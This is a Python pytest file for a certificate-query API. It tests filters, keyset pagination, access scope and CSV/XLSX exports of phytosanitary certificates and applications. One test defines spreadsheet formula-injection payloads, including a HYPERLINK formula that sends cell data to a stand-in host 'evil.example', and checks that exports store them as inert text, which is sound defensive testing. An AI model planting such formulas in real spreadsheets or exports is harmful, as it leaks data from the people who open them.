"""综合查询: filters, scope, keyset pages and CSV / XLSX exports of certificates and applications."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from backend.certificate_applications.service import create_application, submit_application
from backend.certificates.models import Certificate
from backend.core.enums import Role
from backend.extensions import db
from tests.certificates_shared.fixtures import actor_of, phyto_form

Q = "/api/v1/certificate-query"


@pytest.fixture
def three_issued(factories, exporter, exporter_user):
    """Three self-print phytosanitary certificates, each on its own declaration, with distinct consignees."""
    actor = actor_of(exporter_user)
    numbers = []
    for consignee in ("Tokyo Kitchenware K.K.", "Osaka Trading Co.", "东京贸易株式会社"):
        declaration = factories.declaration(exporter, status="e_record_issued")
        record = factories.stored_e_record(declaration)
        form = phyto_form(consignee={"name_en": consignee} if consignee.isascii() else {"name_zh": consignee})
        draft = create_application(actor=actor, e_record_no=record.e_record_no, type_code="18", form=form)
        numbers.append(
            db.session.get(
                Certificate, submit_application(actor=actor, application_id=draft.id).certificate_id
            )
        )
    return numbers


def get(client, path, headers, **params):
    response = client.get(f"{Q}/{path}", query_string=params, headers=headers)
    assert response.status_code == 200, response.get_json()
    return response


def test_filters(client, key_headers, three_issued):
    first, second, third = three_issued
    items = get(client, "certificates", key_headers).get_json()["items"]
    assert [i["certificate_no"] for i in items] == [c.certificate_no for c in reversed(three_issued)]
    by_number = get(client, "certificates", key_headers, certificate_no=second.certificate_no).get_json()[
        "items"
    ]
    assert [i["consignee"] for i in by_number] == ["Osaka Trading Co."]
    e_record_no = first.content["e_record_no"]
    by_record = get(client, "certificates", key_headers, e_record_no=e_record_no).get_json()["items"]
    assert [i["certificate_no"] for i in by_record] == [first.certificate_no]
    inspection_no = third.content["inspection_no"]
    by_inspection = get(client, "certificates", key_headers, inspection_no=inspection_no).get_json()["items"]
    assert [i["certificate_no"] for i in by_inspection] == [third.certificate_no]
    assert len(get(client, "certificates", key_headers, consignee="tokyo").get_json()["items"]) == 1
    assert len(get(client, "certificates", key_headers, consignee="东京").get_json()["items"]) == 1
    assert get(client, "certificates", key_headers, consignee="%").get_json()["items"] == []
    assert get(client, "certificates", key_headers, type_code="11").get_json()["items"] == []
    assert len(get(client, "certificates", key_headers, status="issued").get_json()["items"]) == 3
    today = datetime.now(UTC).date()
    assert (
        len(get(client, "certificates", key_headers, issued_from=today, issued_to=today).get_json()["items"])
        == 3
    )
    tomorrow = today + timedelta(days=1)
    assert get(client, "certificates", key_headers, issued_from=tomorrow).get_json()["items"] == []
    backwards = client.get(
        f"{Q}/certificates", query_string={"issued_from": tomorrow, "issued_to": today}, headers=key_headers
    )
    assert backwards.status_code == 422 and "issued_to" in backwards.get_json()["errors"]
    assert client.get(f"{Q}/certificates?colour=red", headers=key_headers).status_code == 422


def test_keyset_pages_cover_everything_once(client, key_headers, three_issued):
    seen, cursor = [], None
    while True:
        params = {"limit": 2} | ({"cursor": cursor} if cursor else {})
        page = get(client, "certificates", key_headers, **params).get_json()
        seen += [i["certificate_no"] for i in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert sorted(seen) == sorted(c.certificate_no for c in three_issued) and len(seen) == 3


def test_applications_query(client, key_headers, three_issued, apply_for):
    draft = apply_for(form=phyto_form(consignee={"name_en": "Draft Consignee Ltd"}))
    rows = get(client, "applications", key_headers).get_json()["items"]
    assert rows[0]["id"] == draft["id"] and rows[0]["status"] == "draft" and rows[0]["certificate_no"] is None
    issued = get(client, "applications", key_headers, status="issued").get_json()["items"]
    assert sorted(r["certificate_no"] for r in issued) == sorted(c.certificate_no for c in three_issued)
    found = get(client, "applications", key_headers, certificate_no=three_issued[0].certificate_no).get_json()
    assert len(found["items"]) == 1
    assert (
        get(client, "applications", key_headers, consignee="draft consignee").get_json()["items"][0]["id"]
        == draft["id"]
    )


def test_scope_enterprise_own_officer_district(client, factories, three_issued, officer_headers):
    stranger = factories.headers(factories.user(Role.ENTERPRISE), "key")
    assert get(client, "certificates", stranger).get_json()["items"] == []
    assert get(client, "applications", stranger).get_json()["items"] == []
    assert len(get(client, "certificates", officer_headers).get_json()["items"]) == 3
    other_district = factories.headers(factories.user(Role.SUPERVISOR, district_code="5100"), "key")
    assert get(client, "certificates", other_district).get_json()["items"] == []
    password = factories.headers(factories.user(Role.ENTERPRISE), "password")
    for path in ("certificates", "certificates.csv", "certificates.xlsx", "applications", "applications.csv"):
        assert client.get(f"{Q}/{path}", headers=password).get_json()["error"] == "auth.key_required"


def test_csv_has_a_bom_and_the_same_filters(client, key_headers, three_issued):
    response = get(client, "certificates.csv", key_headers, consignee="o")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    filters, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert filters == ["# 筛选条件 Filters: consignee=o"]
    assert rows[0][0] == "证书编号 Certificate No."
    assert {r[7] for r in rows[1:]} == {"Tokyo Kitchenware K.K.", "Osaka Trading Co."}
    assert all(r[2] == "植物检疫证书 PHYTOSANITARY CERTIFICATE" for r in rows[1:])
    applications = get(client, "applications.csv", key_headers).data.decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(applications)))) == 1 + 4


def test_xlsx_export(client, key_headers, three_issued):
    response = get(client, "certificates.xlsx", key_headers, status="issued")
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    assert sheet.title == "证书"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "证书编号 Certificate No." and len(values) == 4
    assert {v[0] for v in values[1:]} == {c.certificate_no for c in three_issued}
    assert "东京贸易株式会社" in {v[7] for v in values[1:]}
    assert workbook["筛选条件 Filters"]["A1"].value == "筛选条件 Filters: status=issued"


FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)")


def test_exports_write_formula_like_text_as_text(client, key_headers, apply_for):
    """A consignee typed as a formula reaches the officer's spreadsheet as text, never as a formula."""
    for name in FORMULAS:
        apply_for(form=phyto_form(consignee={"name_en": name}))
    exported = get(client, "applications.csv", key_headers).data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))[1:]
    assert sorted(r[5] for r in rows[1:]) == sorted("'" + name for name in FORMULAS)
    workbook = load_workbook(io.BytesIO(get(client, "applications.xlsx", key_headers).data))
    cells = [row[5] for row in workbook.active.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(io.BytesIO(get(client, "applications.xlsx", key_headers).data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
